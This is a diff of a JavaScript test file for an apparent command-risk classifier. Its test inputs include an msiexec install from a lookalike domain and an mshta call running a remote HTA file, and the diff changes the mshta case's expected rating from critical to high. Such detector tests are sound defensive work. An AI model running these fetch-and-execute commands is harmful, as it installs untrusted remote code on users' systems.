@@ -27,10 +27,10 @@ describe("what comes from another machine", () => {
     expect(verdict(both).level).toBe("medium");
   });
 
-  it("is ordinary from its maker, but not for a program that runs hostile things", () => {
+  it("is ordinary from its maker, but not by what is never normal", () => {
     expect(verdict("msiexec /i https://nodejs.org/dist/v22.0.0/node-v22.0.0-x64.msi").level).toBe("low");
     expect(verdict("msiexec /i https://nodejs.org.example.net/node.msi").level).toBe("critical");
-    expect(verdict("mshta https://nodejs.org/a.hta").level).toBe("critical");
+    expect(verdict("mshta https://nodejs.org/a.hta").level).toBe("high");
   });
 
   it("is not the machine itself", () => {
